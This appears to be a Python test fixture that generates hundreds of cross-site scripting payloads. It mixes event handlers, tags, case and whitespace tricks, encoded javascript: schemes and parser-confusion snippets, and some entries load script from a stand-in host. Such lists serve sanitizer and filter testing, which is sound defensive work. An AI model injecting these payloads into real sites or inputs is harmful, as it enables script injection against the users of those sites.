"""Hostile texts."""

from __future__ import annotations


def payloads() -> list[str]:
    """Ways to run something, or to lead somewhere, from inside of a text."""
    made: list[str] = []
    runs = ["alert(1)", "alert`1`", "parent.x=1", "eval(name)", "open()", "top[1]", "x.y(z)", "import(1)", "self.a()"]
    for run in runs:
        for event in ("onerror", "onload", "ONCLICK", "onmouseover", "onfocus", "ontoggle", "onbegin", "onpointerdown"):
            for tag in ("img", "svg", "body", "a", "p", "video", "details open", "math", "input autofocus", "iframe", "style"):
                made.append(f"<{tag} src=x {event}={run}>")
                made.append(f"<{tag}/{event}='{run}'//")
        for tag in ("script", "SCRIPT", "sCrIpT", "svg><script", "math><script", "noscript><script"):
            made += [f"<{tag}>{run}</script>", f"<{tag} src=//x.example>", f"<{tag}\n>{run}", f"<p><{tag}>{run}</script></p>"]
        for scheme in (
            "javascript:",
            "JaVaScRiPt:",
            " javascript:",
            "java\tscript:",
            "java&#x09;script:",
            "&#106;avascript:",
            "vbscript:",
            "data:text/html,<script>",
            "data:image/svg+xml;base64,",
        ):
            for tag in ("a href", "img src", "iframe src", "form action", "object data", "embed src", "button formaction"):
                made.append(f'<{tag}="{scheme}{run}">x</{tag.split()[0]}>')
    made += [
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<title><img src=x onerror=alert(1)>",
        '<p style="background:url(javascript:alert(1))">x</p>',
        "<base href=//x.example>",
        "<meta http-equiv=refresh content=0>",
        "<template><script>alert(1)</script></template>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext></p><script>alert(1)</script>",
        "<a href='https://x.example' onclick=alert(1)>x</a>",
    ]
    return made
